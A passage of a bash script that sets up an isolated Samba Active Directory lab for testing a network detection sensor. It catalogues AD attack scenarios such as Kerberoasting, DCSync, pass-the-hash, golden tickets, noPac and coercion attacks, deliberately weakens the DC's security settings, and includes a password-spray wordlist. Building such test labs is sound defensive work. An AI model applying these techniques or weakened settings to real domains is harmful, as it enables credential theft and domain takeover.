#!/bin/bash
# dcwatch's Active Directory lab: a real Samba AD domain controller, a client with real Kerberos,
# LDAP, SMB and impacket tools, and a mirror of the DC's traffic for the sensor, all in network
# namespaces on this machine. See tests/lab/README.md; `cargo xtask lab` runs this script.
#
#   dcwlab-client  cl0 10.98.0.2 <== veth ==> dc0 10.98.0.1  dcwlab-dc   (Samba AD DC dc1.lab.example)
#                                             dc0 ingress+egress --tc u32+mirred--> span0
#   dcwlab-sensor  sensor0 (no address, promiscuous) <== veth ==> span0    (the SPAN port)
#   dcwlab-client  log0 10.98.1.2  <== veth ==> log1 10.98.1.1  dcwlab-sensor  (syslog to the sensor)
#
# usage: lab.sh up | down | status | scenario list|all|NAME... | check-mirror | exec dc|client|sensor CMD...
#   CAP=1 lab.sh scenario NAME   also writes the mirror's frames (as span0 sends them) to $CAP_DIR/NAME.pcap
#                                (winevents-syslog: the frames of the syslog link instead)
#
# State (the DC's database, configs, logs, pcaps, the impacket venv) lives in ${DCWLAB_DIR:-/tmp/dcwlab}
# and `down` removes it; downloads are cached in ${DCWLAB_CACHE:-/var/cache/dcwlab}, which survives.
set -Eeuo pipefail

readonly HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
readonly TOOLS=$HERE/tools
readonly STATE=${DCWLAB_DIR:-/tmp/dcwlab}
readonly CACHE=${DCWLAB_CACHE:-/var/cache/dcwlab}
readonly DC=$STATE/dc CLIENT=$STATE/client LOGS=$STATE/logs VENV=$STATE/venv
readonly CAP=${CAP:-0} CAP_DIR=${CAP_DIR:-$STATE/pcaps}

readonly NS_DC=dcwlab-dc NS_CLIENT=dcwlab-client NS_SENSOR=dcwlab-sensor
# 10.98.0.0/24: not the shared lab's 10.99.0.0/24, so both can exist side by side.
readonly DC_IP=10.98.0.1 CLIENT_IP=10.98.0.2
# A second link, client to sensor, for what a SIEM forwards to the sensor's syslog listener: the
# mirror carries only the DC's traffic.
readonly SYSLOG_CLIENT_IP=10.98.1.2 SENSOR_IP=10.98.1.1 SYSLOG_PORT=514
# filesrv01 is a member server with no host in the lab: its computer account logs on from the
# client's address in the computer-ntlm scenario.
readonly FILESRV_IP=10.98.0.60
# The password spray's other targets (configure_domain makes them).
readonly STAFF="staff01 staff02 staff03 staff04 staff05 staff06 staff07 staff08 staff09 staff10"
readonly REALM=LAB.EXAMPLE DOMAIN=LAB DNSDOMAIN=lab.example DC_NAME=dc1 BASE_DN=DC=lab,DC=example
readonly ADMIN_PW='Adm1n!Passw0rd'
# it_admin's and honey_admin's (tools/fill_directory.py).
readonly IT_ADMIN_PW='ItAdm1n!Passw0rd'
readonly SMB_CONF=$DC/etc/smb.conf

# Pinned: the compatibility patches in tools/ replace impacket internals of this version.
readonly IMPACKET_VERSION=0.13.1
readonly APT_PACKAGES="samba samba-ad-dc samba-ad-provision samba-dsdb-modules samba-vfs-modules winbind
 python3-samba python3-venv krb5-user smbclient ldap-utils bind9-dnsutils libsasl2-modules-gssapi-mit
 tshark tcpdump ethtool iproute2 util-linux"

# Scenarios, in the order `scenario all` runs them, and what each one is.
readonly SCENARIOS="benign kerberoast asreproast dcsync pass-the-hash overpass-the-hash bruteforce-kerberos
 bruteforce-ntlm bruteforce-ldap spray recon-samr recon-ldap psexec axfr
 ldap-sign-kerberos ldap-sign-ntlm ldap-seal dpapi-backupkey session-enum petitpotam printerbug dfscoerce
 zerologon timeroast atexec wmiexec dcomexec remote-registry spn-modify group-modify nopac
 honeytoken golden-ticket ldap-ping-enum computer-ntlm account-enum winevents-syslog"
declare -A WHAT=(
    [benign]="kinit, service tickets, SMB file access with NTLM and with Kerberos, LDAP simple and GSSAPI binds and searches, DNS lookups"
    [kerberoast]="GetUserSPNs -request: LDAP SPN search, then an RC4 service ticket for svc_sql (\$krb5tgs\$23\$)"
    [asreproast]="GetNPUsers over a user list without credentials: AS-REQs without pre-auth, bob's RC4 AS-REP (\$krb5asrep\$23\$)"
    [dcsync]="secretsdump -just-dc-ntlm as Administrator: SAMR, EPM, DRSUAPI DsGetNCChanges (NTLM, sealed)"
    [pass-the-hash]="SMB with Administrator's NT hash instead of the password (NTLM)"
    [overpass-the-hash]="Administrator's own AES logon (kinit), then getTGT with its NT hash (RC4 AS-REQ) and SMB with Kerberos from that ticket"
    [bruteforce-kerberos]="10 wrong passwords for carol via kinit (KDC_ERR_PREAUTH_FAILED), then the right one"
    [bruteforce-ntlm]="10 wrong passwords for carol over SMB NTLM (STATUS_LOGON_FAILURE), then the right one"
    [bruteforce-ldap]="10 wrong passwords for carol as LDAP simple binds (invalidCredentials), then the right one"
    [spray]="one password against 15 accounts (staff01..staff10 among them), over Kerberos and over SMB NTLM, and an unknown user"
    [recon-samr]="SAMR and LSA enumeration: anonymous and authenticated rpcclient, samrdump, lookupsid"
    [recon-ldap]="LDAP reconnaissance: rootDSE, SPN, no-pre-auth, adminCount and group searches, GetADUsers -all"
    [psexec]="psexec as Administrator: the .exe upload works, creating the service fails (Samba has no CreateService)"
    [axfr]="zone transfer attempts (AXFR, IXFR): Samba's DNS answers with the SOA only"
    [ldap-sign-kerberos]="ldapsearch -Y GSSAPI -O maxssf=1 as alice: Kerberos SASL with integrity only, the searches in clear inside the GSS wrap tokens"
    [ldap-sign-ntlm]="LDAP GSS-SPNEGO/NTLM as alice negotiating sign without seal: AD seals NTLM SASL anyway (LDAP style), so the buffers are encrypted"
    [ldap-seal]="ldapsearch -Y GSSAPI as alice with the default security layer: Kerberos SASL sealed, the searches encrypted"
    [dpapi-backupkey]="DPAPI domain backup key theft as Administrator: dpapi.py backupkeys (LsarRetrievePrivateData, which Samba faults), BKRP BackuprKey, LsarOpenSecret/LsarQuerySecret of G\$BCKUPKEY_*"
    [session-enum]="SRVSVC NetrSessionEnum (levels 10, 502, 1) and NetrShareEnum (1, 2), WKSSVC NetrWkstaUserEnum as alice (sessions denied) and as Administrator (impacket), rpcclient netsessenum/netshareenumall as alice"
    [petitpotam]="PetitPotam as alice: EFSRPC EfsRpcOpenFileRaw and EfsRpcEncryptFileSrv with a UNC to the client, over \\pipe\\lsarpc (bind refused by Samba) and \\pipe\\efsrpc (no such pipe)"
    [printerbug]="the printer bug as alice: RpcOpenPrinter, then RpcRemoteFindFirstPrinterChangeNotificationEx with pszLocalMachine \\\\10.98.0.2: Samba answers RPC_S_SERVER_UNAVAILABLE without calling back"
    [dfscoerce]="DFSCoerce as alice: NETDFS NetrDfsRemoveStdRoot and NetrDfsAddStdRoot with the client's address (Samba faults both)"
    [zerologon]="Zerologon test: 5 NetrServerReqChallenge + NetrServerAuthenticate3 with zero credentials for DC1\$ over TCP, no authentication (Samba denies each)"
    [timeroast]="Timeroasting: 40 MS-SNTP requests to UDP 123 with RIDs 1000-1004 and 1100-1134 as key ids, answered (signed by Samba's ntp_signd) for the computer accounts"
    [atexec]="atexec as Administrator: SMB session, \\pipe\\atsvc open (Samba has no task scheduler pipe: not found)"
    [wmiexec]="wmiexec as Administrator: DCOM activation bind on 135 (Samba refuses the interface: no DCOM)"
    [dcomexec]="dcomexec as Administrator with MMC20 and ShellWindows: DCOM activation binds on 135 (Samba refuses them: no DCOM)"
    [remote-registry]="remote registry as Administrator: reg.py save of HKLM\\SAM and backup (SAM, SYSTEM, SECURITY) over WINREG; Samba has no SAM or SECURITY hive and refuses the SYSTEM save"
    [spn-modify]="LDAP modify as Administrator (simple bind): an SPN added to carol, a TGS-REQ for it, the SPN removed"
    [group-modify]="LDAP modify as Administrator (simple bind): alice added to Domain Admins, then removed"
    [nopac]="noPac as alice: computer NOPAC01\$ added over SAMR, its SPNs cleared, renamed to dc1 over LDAP (Samba refuses), a TGT for it and an S4U2self for Administrator; then deleted"
    [honeytoken]="logons of the honeytoken account honey_admin: kinit and SMB with NTLM"
    [golden-ticket]="golden ticket: DCSync of krbtgt as Administrator, impacket ticketer with its AES key for Administrator, then SMB with that forged TGT"
    [ldap-ping-enum]="account enumeration with LDAP pings: 18 User= guesses over CLDAP and over TCP LDAP, no credentials"
    [computer-ntlm]="the computer account filesrv01\$ (its host is 10.98.0.60) logs on over SMB NTLM from the client's address"
    [account-enum]="Kerberos account enumeration: GetNPUsers over 20 names without credentials, 16 unknown (C_PRINCIPAL_UNKNOWN)"
    [winevents-syslog]="Windows events over UDP syslog to the sensor (10.98.1.1:514) in the RSA, CEF, Splunk and QRadar layouts: 7045, 4728, 4732, 4756, 30 x 4726"
)

# Where a scenario's capture is taken: "NAMESPACE INTERFACE". By default span0, the mirror's
# sending end, which carries what sensor0 receives even while a sensor's XDP program in mirror
# mode drops every frame there.
declare -A CAPTURE_ON=([winevents-syslog]="$NS_SENSOR log1")

log() { printf '[dcwlab %(%H:%M:%S)T] %s\n' -1 "$*" >&2; }
die() {
    log "error: $*"
    exit 1
}
# Names the command that failed, unless it is a function handing back its failure.
on_error() { case $BASH_COMMAND in return*) ;; *) log "error: '$BASH_COMMAND' failed (line $1)" ;; esac; }
trap 'on_error $LINENO' ERR

# ------------------------------------------------------------------------------ namespaces

ns_exists() { ip netns list | grep -qE "^$1( |$)"; }

# Runs a shell snippet in the DC namespace, in a private mount namespace where the lab's resolv.conf
# and hosts replace the machine's, and the lab's run directory replaces /run/samba (Samba's clients
# look for winbindd there whatever the config says). The mounts vanish with the processes.
in_dc() {
    ip netns exec $NS_DC unshare -m --propagation private bash -c '
        mount --bind "$0/resolv.conf" /etc/resolv.conf && mount --bind "$0/hosts" /etc/hosts &&
        mount --bind "$0/run" /run/samba && export KRB5_CONFIG="$0/krb5.conf" && eval "$1"' "$DC" "$*"
}

# Runs a shell snippet in the client namespace, with the client's resolv.conf, hosts and env.sh.
in_client() {
    ip netns exec $NS_CLIENT unshare -m --propagation private bash -c '
        mount --bind "$0/resolv.conf" /etc/resolv.conf && mount --bind "$0/hosts" /etc/hosts &&
        . "$0/env.sh" && eval "$1"' "$CLIENT" "$*"
}

in_sensor() { ip netns exec $NS_SENSOR bash -c "$*"; }

# Frames on the wire must be what a NIC would see: no TSO/GSO/GRO super-frames, real checksums.
no_offloads() { ip netns exec "$1" ethtool -K "$2" tx off rx off tso off gso off gro off >/dev/null 2>&1 || true; }

network_up() {
    local ns
    # `ip netns add` makes /run/netns a mount point the first time; if this lab is the first, `down`
    # undoes that too.
    if ! mountpoint -q /run/netns && [ ! -f "$STATE/.made-run-netns" ]; then touch "$STATE/.made-run-netns"; fi
    for ns in $NS_DC $NS_CLIENT $NS_SENSOR; do
        ns_exists $ns || ip netns add $ns
        # IPv4 only: no router solicitations or MLD reports muddying the captures.
        ip netns exec $ns sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
        ip -n $ns link set lo up
    done
    ip -n $NS_DC link show dc0 >/dev/null 2>&1 ||
        ip link add dc0 netns $NS_DC address 02:00:0a:62:00:01 type veth peer cl0 netns $NS_CLIENT address 02:00:0a:62:00:02
    ip -n $NS_DC link show span0 >/dev/null 2>&1 ||
        ip link add span0 netns $NS_DC address 02:00:0a:62:00:fe type veth peer sensor0 netns $NS_SENSOR address 02:00:0a:62:00:ff
    ip -n $NS_CLIENT link show log0 >/dev/null 2>&1 ||
        ip link add log0 netns $NS_CLIENT address 02:00:0a:62:01:02 type veth peer log1 netns $NS_SENSOR address 02:00:0a:62:01:01
    ip -n $NS_CLIENT addr replace $SYSLOG_CLIENT_IP/24 dev log0
    ip -n $NS_SENSOR addr replace $SENSOR_IP/24 dev log1
    ip -n $NS_CLIENT link set log0 up
    ip -n $NS_SENSOR link set log1 up
    no_offloads $NS_CLIENT log0
    no_offloads $NS_SENSOR log1
    ip -n $NS_DC addr replace $DC_IP/24 dev dc0
    ip -n $NS_CLIENT addr replace $CLIENT_IP/24 dev cl0
    ip -n $NS_DC link set dc0 up
    ip -n $NS_DC link set span0 up
    ip -n $NS_CLIENT link set cl0 up
    ip -n $NS_SENSOR link set sensor0 up promisc on
    no_offloads $NS_DC dc0
    no_offloads $NS_DC span0
    no_offloads $NS_CLIENT cl0
    no_offloads $NS_SENSOR sensor0
    mirror_up
}

# The SPAN port: every frame dc0 receives or sends is copied out of span0. This kernel has no
# matchall or flower classifier, so a u32 filter that matches everything does it.
mirror_up() {
    local direction
    tc -n $NS_DC qdisc replace dev dc0 clsact
    for direction in ingress egress; do
        tc -n $NS_DC filter show dev dc0 $direction | grep -q mirred ||
            tc -n $NS_DC filter add dev dc0 $direction protocol all prio 1 u32 match u32 0 0 \
                action mirred egress mirror dev span0
    done
}

# Ends every process in a namespace (Samba's daemons and workers, tcpdump), by PID, and waits until
# they are gone: a process that is still exiting no longer shows in `ip netns pids`.
kill_namespace_processes() {
    local ns=$1 pids pid tries
    ns_exists "$ns" || return 0
    pids=$(ip netns pids "$ns" 2>/dev/null) || true
    [ -n "$pids" ] || return 0
    for pid in $pids; do kill -TERM "$pid" 2>/dev/null || true; done
    for tries in $(seq 1 50); do
        alive "$pids" || return 0
        sleep 0.2
    done
    for pid in $pids; do kill -KILL "$pid" 2>/dev/null || true; done
    for tries in $(seq 1 25); do
        alive "$pids" || return 0
        sleep 0.2
    done
    log "warning: processes $pids of $ns would not end"
}

# Whether any of the PIDs still exists.
alive() {
    local pid
    for pid in $1; do [ -d "/proc/$pid" ] && return 0; done
    return 1
}

# ------------------------------------------------------------------------------ install

# Installs the Debian packages and the pinned impacket; quick when both are there already.
install() {
    local missing="" package attempt
    for package in $APT_PACKAGES; do
        dpkg-query -W -f='${Status}' "$package" 2>/dev/null | grep -q 'ok installed' || missing+=" $package"
    done
    if [ -n "$missing" ]; then
        log "apt-get install$missing (log: $LOGS/apt.log)"
        # Answers for the questions these packages ask, so the install runs unattended.
        debconf-set-selections <<EOF
krb5-config krb5-config/default_realm string $REALM
krb5-config krb5-config/add_servers_realm string $REALM
krb5-config krb5-config/add_servers boolean false
wireshark-common wireshark-common/install-setuid boolean false
samba-common samba-common/dhcp boolean false
samba-common samba-common/workgroup string $DOMAIN
EOF
        for attempt in 1 2 3; do
            # Another apt may hold the lock (unattended upgrades on a fresh machine): wait, then retry.
            DEBIAN_FRONTEND=noninteractive apt-get -o DPkg::Lock::Timeout=300 update -qq >>"$LOGS/apt.log" 2>&1 &&
                DEBIAN_FRONTEND=noninteractive apt-get -o DPkg::Lock::Timeout=300 install -y -qq \
                    --no-install-recommends $missing >>"$LOGS/apt.log" 2>&1 && break
            log "apt-get failed (attempt $attempt), retrying in 10 s"
            sleep 10
        done
        for package in $missing; do
            dpkg-query -W -f='${Status}' "$package" 2>/dev/null | grep -q 'ok installed' ||
                die "could not install $package (see $LOGS/apt.log)"
        done
        # Debian may start the host's own Samba; the lab's runs only inside its namespace.
        systemctl disable --now samba-ad-dc smbd nmbd winbind >/dev/null 2>&1 || true
    fi
    if [ "$("$VENV/bin/python" -c 'import importlib.metadata as m; print(m.version("impacket"))' 2>/dev/null)" != "$IMPACKET_VERSION" ]; then
        log "impacket $IMPACKET_VERSION into $VENV (pip cache: $CACHE/pip)"
        # Debian's python3, whatever else is first on PATH: python3-venv is what apt installed.
        /usr/bin/python3 -m venv "$VENV" >>"$LOGS/pip.log" 2>&1 || die "python3 -m venv failed (see $LOGS/pip.log)"
        "$VENV/bin/pip" install -q --cache-dir "$CACHE/pip" "impacket==$IMPACKET_VERSION" >>"$LOGS/pip.log" 2>&1 ||
            die "pip install impacket==$IMPACKET_VERSION failed (see $LOGS/pip.log)"
    fi
}

# ------------------------------------------------------------------------------ configuration

write_configs() {
    mkdir -p "$DC/run" "$DC/log" "$DC/share" "$CLIENT/samba"
    # Mount point for the DC's run directory. Samba's package usually made it; if we make it,
    # `down` removes it again.
    if [ ! -d /run/samba ]; then
        mkdir /run/samba
        touch "$STATE/.made-run-samba"
    fi
    printf 'nameserver %s\nsearch %s\n' $DC_IP $DNSDOMAIN >"$DC/resolv.conf"
    cp "$DC/resolv.conf" "$CLIENT/resolv.conf"
    printf '127.0.0.1 localhost\n%s %s.%s %s\n' $DC_IP $DC_NAME $DNSDOMAIN $DC_NAME >"$DC/hosts"
    printf '127.0.0.1 localhost\n%s client1.%s client1\n' $CLIENT_IP $DNSDOMAIN >"$CLIENT/hosts"
    # The KDC's config. Heimdal's default require-preauth = true would make the no-pre-auth flag
    # (AS-REP roasting) do nothing.
    cat >"$DC/krb5.conf" <<EOF
[libdefaults]
	default_realm = $REALM
	dns_lookup_realm = false
	dns_lookup_kdc = true
[domain_realm]
	$DC_NAME = $REALM
[kdc]
	require-preauth = false
EOF
    # TCP only (udp_preference_limit = 0), as Windows does for tickets with a PAC.
    cat >"$CLIENT/krb5.conf" <<EOF
[libdefaults]
	default_realm = $REALM
	dns_lookup_realm = false
	dns_lookup_kdc = true
	rdns = false
	udp_preference_limit = 0
[realms]
	$REALM = {
		kdc = $DC_NAME.$DNSDOMAIN
		admin_server = $DC_NAME.$DNSDOMAIN
	}
[domain_realm]
	.$DNSDOMAIN = $REALM
	$DNSDOMAIN = $REALM
EOF
    # The client's smbclient/rpcclient keep their state in the lab, not in the machine's /var/lib/samba.
    cat >"$CLIENT/smb.conf" <<EOF
[global]
	workgroup = $DOMAIN
	realm = $REALM
	security = ads
	client min protocol = SMB2
	lock directory = $CLIENT/samba
	state directory = $CLIENT/samba
	cache directory = $CLIENT/samba
	private dir = $CLIENT/samba
	pid directory = $CLIENT/samba
	ncalrpc dir = $CLIENT/samba/ncalrpc
	log file = $CLIENT/samba/client.log
EOF
    cat >"$CLIENT/env.sh" <<EOF
# Sourced by every command run in the client namespace.
export KRB5_CONFIG=$CLIENT/krb5.conf KRB5CCNAME=$CLIENT/krb5cc LDAPTLS_REQCERT=never
export PATH=$VENV/bin:\$PATH
export DC_IP=$DC_IP REALM=$REALM DOMAIN=$DOMAIN DNSDOMAIN=$DNSDOMAIN DC_FQDN=$DC_NAME.$DNSDOMAIN BASE=dc=lab,dc=example
export CLIENT=$CLIENT CSMB=$CLIENT/smb.conf TOOLS=$TOOLS IMP="python $TOOLS/impacket_samba.py"
export CLIENT_IP=$CLIENT_IP SENSOR_IP=$SENSOR_IP SYSLOG_PORT=$SYSLOG_PORT DC_NAME=$DC_NAME
export ADMIN_PW='$ADMIN_PW' ALICE_PW='Alice!Passw0rd1' BOB_PW='Bob!Passw0rd1' CAROL_PW='Carol!Passw0rd1' SVC_PW='Svc!Sql2024x'
export HONEY_PW='Honey!Passw0rd1' IT_ADMIN_PW='ItAdmin!Passw0rd1' FILESRV_PW='Filesrv!Passw0rd1' NOPAC_PW='Nopac!Passw0rd1'
export WRONG_PWS='Password1 Winter2024! Summer2025! Welcome1 Carol2024 Qwerty123! Letmein1! Passw0rd! Company1 Spring2025!'
cd $CLIENT
EOF
    printf 'alice\nbob\ncarol\nsvc_sql\nAdministrator\nnosuchuser\n' >"$CLIENT/users.txt"
    printf '%s\n' alice bob carol svc_sql Administrator $STAFF nosuchuser >"$CLIENT/spray-users.txt"
    # Account enumeration's guesses: 4 accounts that exist (none without pre-authentication), 16 that do not.
    printf '%s\n' alice jsmith carol mjones admin svc_sql backup sqladmin test Administrator \
        helpdesk guest1 webadmin jdoe operator scanner svc_backup itsupport dbadmin printer >"$CLIENT/enum-users.txt"
    echo "hello from the DC's share" >"$DC/share/readme.txt"
    chmod 1777 "$DC/share"
}

provisioned() { [ -f "$DC/.configured" ]; }

# What the DC's database was made by: the provisioning and configuration code and the tools it
# runs. A lab left behind by another version of this script (a run killed before `down`, a
# checkout moved on under `--keep`) lacks accounts and keys the scenarios count on.
provisioning_stamp() {
    { declare -f provision configure_domain; echo "$STAFF"; cat "$TOOLS/set_uac.py" "$TOOLS/add_users.py"; } |
        sha256sum | cut -d' ' -f1
}

# A DC provisioned by other code is set aside: its Samba stopped and its database removed.
discard_stale_domain() {
    provisioned || return 0
    [ "$(cat "$DC/.configured")" = "$(provisioning_stamp)" ] && return 0
    log "the DC in $DC was provisioned by another version of lab.sh: provisioning it afresh"
    local pid
    if pid=$(samba_pid); then
        kill "$pid"
        while kill -0 "$pid" 2>/dev/null; do sleep 0.2; done
    fi
    rm -rf "$DC"
}

provision() {
    local started=$SECONDS
    log "provisioning $REALM (log: $LOGS/provision.log)"
    # An empty config file: otherwise provisioning copies the shares of Debian's /etc/samba/smb.conf.
    : >"$DC/empty.conf"
    in_dc "samba-tool domain provision --configfile=$DC/empty.conf --targetdir=$DC \
        --realm=$REALM --domain=$DOMAIN --server-role=dc --dns-backend=SAMBA_INTERNAL \
        --host-name=$DC_NAME --host-ip=$DC_IP --adminpass='$ADMIN_PW' --use-rfc2307 \
        --option='interfaces = lo dc0' --option='bind interfaces only = yes' \
        --option='pid directory = $DC/run' --option='ncalrpc dir = $DC/run/ncalrpc' \
        --option='winbindd socket directory = $DC/run/winbindd' \
        --option='ntp signd socket directory = $DC/run/ntp_signd' \
        --option='log file = $DC/log/samba.log' --option='load printers = no' \
        --option='printing = bsd' --option='printcap name = /dev/null' --option='disable spoolss = yes'" \
        >"$LOGS/provision.log" 2>&1 || {
        tail -20 "$LOGS/provision.log" >&2
        die "provisioning failed"
    }
    # Provisioning copies the machine's resolver as a DNS forwarder: nothing may leave the lab.
    sed -i '/dns forwarder/d' "$SMB_CONF"
    # Simple binds on 389 without TLS, so the lab shows cleartext LDAP binds and their brute force.
    sed -i '/^\[global\]/a\	ldap server require strong auth = no' "$SMB_CONF"
    # No SMB3 encryption, as on a Windows DC (which offers it but requires it of no share):
    # impacket encrypts whenever the server offers it, and then psexec's SVCCTL calls, SAMR
    # enumeration and file names are only ENCRYPTED metadata to the sensor.
    sed -i '/^\[global\]/a\	server smb encrypt = off' "$SMB_CONF"
    # A share anyone in the domain can write to: file access, and psexec's upload.
    printf '\n[share]\n\tpath = %s\n\tread only = No\n' "$DC/share" >>"$SMB_CONF"
    log "provisioned in $((SECONDS - started)) s"
}

samba_pid() {
    local pid
    pid=$(cat "$DC/run/samba.pid" 2>/dev/null) || return 1
    kill -0 "$pid" 2>/dev/null && echo "$pid"
}

listening() { ip netns exec $NS_DC ss -Hltn "sport = :$1" | grep -q "$DC_IP:$1"; }

# The DC's time service: Samba signs MS-SNTP answers for ntpd or chrony through its ntp_signd
# socket and runs none itself; tools/ntp_signd_server.py is the smallest such server. `down`
# ends it with the namespace's other processes.
ntp_start() {
    local pid
    pid=$(cat "$DC/run/ntp.pid" 2>/dev/null) && kill -0 "$pid" 2>/dev/null && return 0
    ip netns exec $NS_DC setsid /usr/bin/python3 "$TOOLS/ntp_signd_server.py" $DC_IP "$DC/run/ntp_signd/socket" \
        >>"$LOGS/ntp.log" 2>&1 </dev/null &
    echo $! >"$DC/run/ntp.pid"
}

samba_start() {
    samba_pid >/dev/null && return 0
    in_dc "samba -s $SMB_CONF -D"
    local tries
    for tries in $(seq 1 120); do
        if listening 88 && listening 389 && listening 445 &&
            in_client "dig +short +time=1 +tries=1 $DC_NAME.$DNSDOMAIN" 2>/dev/null | grep -q "$DC_IP"; then
            log "samba is up (pid $(samba_pid))"
            return 0
        fi
        sleep 0.5
    done
    tail -30 "$DC/log/samba.log" >&2
    die "samba did not come up"
}

# The accounts the scenarios use (see README.md), set once after provisioning.
configure_domain() {
    provisioned && return 0
    log "adding accounts, SPN and DNS records (log: $LOGS/configure.log)"
    local conf="-s $SMB_CONF" admin="-U Administrator%$ADMIN_PW"
    in_dc "set -e
        samba-tool domain passwordsettings set --max-pwd-age=0 $conf >/dev/null
        samba-tool user add alice 'Alice!Passw0rd1' --given-name=Alice --surname=Lab $conf
        samba-tool user add bob 'Bob!Passw0rd1' $conf
        samba-tool user add carol 'Carol!Passw0rd1' $conf
        samba-tool user add svc_sql 'Svc!Sql2024x' $conf
        # Staff accounts for the password spray to reach past its threshold of 10 accounts.
        echo 'Staff!Passw0rd1' | /usr/bin/python3 $TOOLS/add_users.py $SMB_CONF $STAFF
        samba-tool spn add MSSQLSvc/sql01.$DNSDOMAIN:1433 svc_sql $conf
        /usr/bin/python3 $TOOLS/set_uac.py $SMB_CONF bob on
        /usr/bin/python3 $TOOLS/set_uac.py $SMB_CONF krbtgt on
        # krbtgt's keys at version 2, where a Windows domain's are after promotion (and where
        # impacket's ticketer puts a forged TGT's): a fresh Samba domain has them at 1.
        samba-tool user setpassword krbtgt --random-password $conf
        samba-tool dns zonecreate $DC_IP 0.98.10.in-addr.arpa $admin >/dev/null
        samba-tool dns add $DC_IP 0.98.10.in-addr.arpa 1 PTR $DC_NAME.$DNSDOMAIN $admin >/dev/null
        samba-tool dns add $DC_IP $DNSDOMAIN sql01 A 10.98.0.50 $admin >/dev/null
        samba-tool dns add $DC_IP $DNSDOMAIN client1 A $CLIENT_IP $admin >/dev/null
        # A honeytoken: an account nobody uses, whose every logon is an alert.
        samba-tool user add honey_admin 'Honey!Passw0rd1' --description='honeytoken' $conf
        # Sensitive through a chain: it_admin is in IT-Admins, which is in Domain Admins.
        samba-tool group add IT-Admins $conf
        samba-tool group addmembers 'Domain Admins' IT-Admins $conf
        samba-tool user add it_admin 'ItAdmin!Passw0rd1' $conf
        samba-tool group addmembers IT-Admins it_admin $conf
        # The client's own computer account, and a member server's whose password the lab knows.
        samba-tool computer create client1 $conf
        samba-tool user setpassword 'client1\$' --random-password $conf
        samba-tool computer create filesrv01 --ip-address=$FILESRV_IP $admin $conf
        samba-tool user setpassword 'filesrv01\$' --newpassword='Filesrv!Passw0rd1' $conf
        # Samba ignores ms-DS-MachineAccountQuota: alice gets what it grants every user on Windows,
        # creating computer objects in CN=Computers (noPac starts there).
        alice=\$(samba-tool user show alice --attributes=objectSid $conf | sed -n 's/^objectSid: //p')
        samba-tool dsacl set --objectdn=CN=Computers,$BASE_DN --action=allow \
            --sddl=\"(OA;CI;CC;bf967a86-0de6-11d0-a285-00aa003049e2;;\$alice)\" $conf >/dev/null" \
        >>"$LOGS/configure.log" 2>&1 || {
        tail -20 "$LOGS/configure.log" >&2
        die "configuring the domain failed"
    }
    provisioning_stamp >"$DC/.configured"
}

# LDAPS and StartTLS with a certificate rustls accepts (the directory sync's), made once;
# Samba's own is X.509 v1 without subjectAltNames. Sensors are given $DC/tls/ca.pem.
dc_tls() {
    [ -f "$DC/tls/cert.pem" ] && return 0
    "$TOOLS/dc_tls.sh" "$DC/tls" "$SMB_CONF" $DC_NAME.$DNSDOMAIN $DNSDOMAIN $DC_IP
    local pid
    if pid=$(samba_pid); then
        kill "$pid"
        while kill -0 "$pid" 2>/dev/null; do sleep 0.2; done
    fi
}

# The directory the sync reads: 5,000 users, 1,000 computers, 120 groups nested ten deep,
# it_admin in IT-Admins in Domain Admins, honey_admin (tools/fill_directory.py). Once: about
# 3 minutes on 2 cores, every account going through Samba's own checks (straight into sam.ldb,
# which is still several times faster than samba-tool or LDAP adds).
# Only with LAB_FILL=1 in the environment of `cargo xtask lab up` (or lab.sh up): the attack scenarios
# need none of it, and on a fresh 2-core machine it costs minutes the default test run has not.
fill_directory() {
    [ "${LAB_FILL:-0}" = 1 ] || return 0
    [ -f "$DC/.filled" ] && return 0
    log "filling the directory (log: $LOGS/fill.log)"
    in_dc "echo '$IT_ADMIN_PW' | /usr/bin/python3 $TOOLS/fill_directory.py $SMB_CONF 5000 1000 120" \
        >>"$LOGS/fill.log" 2>&1 || {
        tail -20 "$LOGS/fill.log" >&2
        die "filling the directory failed"
    }
    log "$(tail -1 "$LOGS/fill.log")"
    touch "$DC/.filled"
}

# ------------------------------------------------------------------------------ up, down, status

cmd_up() {
    local started=$SECONDS
    mkdir -p "$STATE" "$LOGS" "$CACHE"
    install
    network_up
    discard_stale_domain
    write_configs
    provisioned || provision
    dc_tls
    samba_start
    ntp_start
    configure_domain
    fill_directory
    log "lab is up in $((SECONDS - started)) s: DC $DC_NAME.$DNSDOMAIN $DC_IP ($NS_DC), client $CLIENT_IP ($NS_CLIENT), mirror sensor0 ($NS_SENSOR)"
}

cmd_down() {
    local ns
    for ns in $NS_SENSOR $NS_CLIENT $NS_DC; do
        kill_namespace_processes $ns
        # Deleting a namespace deletes its veths (and so their peers).
        if ns_exists $ns; then ip netns del $ns; fi
    done
    if [ -f "$STATE/.made-run-samba" ]; then rmdir /run/samba 2>/dev/null || true; fi
    # Only when no namespace at all is left: someone else's would lose its mount.
    if [ -f "$STATE/.made-run-netns" ] && [ -z "$(ip netns list)" ] && mountpoint -q /run/netns; then
        umount /run/netns || true
    fi
    rm -rf "$STATE"
    log "lab is down: namespaces, processes and $STATE removed"
}

cmd_status() {
    local ns pid
    for ns in $NS_DC $NS_CLIENT $NS_SENSOR; do
        if ns_exists $ns; then echo "namespace $ns: present"; else echo "namespace $ns: absent"; fi
    done
    if pid=$(samba_pid); then echo "samba: running, pid $pid"; else echo "samba: not running"; fi
    if provisioned; then echo "domain: $REALM provisioned in $DC"; else echo "domain: not provisioned"; fi
    if ns_exists $NS_DC && tc -n $NS_DC filter show dev dc0 egress 2>/dev/null | grep -q mirred; then
        echo "mirror: dc0 (both directions) -> span0 -> sensor0"
    fi
    return 0
}

require_up() { samba_pid >/dev/null || die "the lab is not up (run: lab.sh up)"; }

# ------------------------------------------------------------------------------ capture

CAPTURE_PID=""

# Starts tcpdump on an interface in a namespace, writing to a file; returns once it listens.
capture_start() {
    local ns=$1 interface=$2 file=$3 tries
    rm -f "$file" "$file.log"
    ip netns exec "$ns" tcpdump -i "$interface" -s 0 -U -n -w "$file" >"$file.log" 2>&1 &
    CAPTURE_PID=$!
    for tries in $(seq 1 50); do
        grep -q 'listening on' "$file.log" 2>/dev/null && return 0
        sleep 0.1
    done
    die "tcpdump on $interface did not start (see $file.log)"
}

# Stops a capture after the last frames had time to arrive.
capture_stop() {
    sleep 1
    kill -INT "$1" 2>/dev/null || true
    wait "$1" 2>/dev/null || true
    rm -f "$2.log"
}

# Counts the frames of a pcap from the client to the DC and back: "TO FROM".
directions() {
